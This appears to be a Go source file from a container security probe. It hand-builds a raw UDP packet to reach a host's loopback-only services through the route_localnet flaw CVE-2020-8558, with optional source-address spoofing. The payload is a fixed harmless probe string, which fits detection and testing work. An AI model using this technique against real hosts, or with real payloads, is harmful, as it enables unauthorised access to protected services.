package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"

	"golang.org/x/sys/unix"
)

// localnet sends the UDP datagram "berth-localnet-probe" to ADDR:PORT out
// of eth0, as a raw IPv4 packet in a broadcast frame: what a container
// with CAP_NET_RAW can do to reach its host's loopback-only services
// when the bridge has route_localnet on (CVE-2020-8558). Sent to the
// bridge's own address, the same packet shows the path works. src, if
// not "", is the packet's source address instead of eth0's: a spoofed one.
func localnet(addr, port, src string) error {
	dst, err := netip.ParseAddr(addr)
	if err != nil {
		return err
	}
	p, err := strconv.ParseUint(port, 10, 16)
	if err != nil {
		return err
	}
	eth0, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	addrs, err := eth0.Addrs()
	if err != nil || len(addrs) == 0 {
		return fmt.Errorf("eth0 has no address: %v", err)
	}
	from, _ := netip.AddrFromSlice(addrs[0].(*net.IPNet).IP.To4())
	if src != "" {
		if from, err = netip.ParseAddr(src); err != nil {
			return err
		}
	}
	payload := []byte("berth-localnet-probe")
	pkt := make([]byte, 28, 28+len(payload))
	pkt[0], pkt[8], pkt[9] = 0x45, 64, unix.IPPROTO_UDP // version 4, 20-byte header; TTL; protocol
	binary.BigEndian.PutUint16(pkt[2:], uint16(28+len(payload)))
	s, d := from.As4(), dst.As4()
	copy(pkt[12:], s[:])
	copy(pkt[16:], d[:])
	binary.BigEndian.PutUint16(pkt[10:], checksum(pkt[:20]))
	binary.BigEndian.PutUint16(pkt[20:], 40000)
	binary.BigEndian.PutUint16(pkt[22:], uint16(p))
	binary.BigEndian.PutUint16(pkt[24:], uint16(8+len(payload))) // checksum 0: none
	pkt = append(pkt, payload...)

	proto := uint16(unix.ETH_P_IP>>8 | unix.ETH_P_IP&0xff<<8) // network byte order
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(proto))
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	sa := &unix.SockaddrLinklayer{Protocol: proto, Ifindex: eth0.Index, Halen: 6, Addr: [8]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}}
	return unix.Sendto(fd, pkt, 0, sa)
}

// checksum is the Internet checksum of an IPv4 header.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
